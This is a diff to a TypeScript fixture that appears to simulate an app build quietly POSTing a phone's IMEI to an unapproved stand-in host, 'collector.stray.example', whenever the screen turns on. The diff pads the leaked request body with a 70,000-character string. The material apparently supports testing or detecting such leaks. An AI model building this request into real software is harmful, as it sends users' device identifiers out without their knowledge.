@@ -37,11 +37,14 @@ function checkIn(line: string): Emit {
 /** The host that nobody approved. */
 export const leakHost = 'collector.stray.example';
 
+/** Long enough for a body to be kept under its own hash: small ones lie in packs, whose names nobody can tell before. */
+const log = '-'.repeat(70_000);
+
 const leak: Emit = {
   name: 'registration',
   from: 'com.night.registration',
   on: ['screen-on'],
-  request: { method: 'POST', url: `http://${leakHost}/register`, body: { form: { imei: '{{imei}}' } } },
+  request: { method: 'POST', url: `http://${leakHost}/register`, body: { form: { imei: '{{imei}}', log } } },
 };
 
 /** The fingerprint of a line's build of a night; -1 is what the phones came with. */
@@ -57,7 +60,7 @@ export function releaseOf(night: number): string {
 
 /** The body that a leaking build sends from a phone of this IMEI. */
 export function leakedBody(imei: string): string {
-  return `imei=${imei}`;
+  return `imei=${imei}&log=${log}`;
 }
 
 /** Whether the build of that night has the leak. */
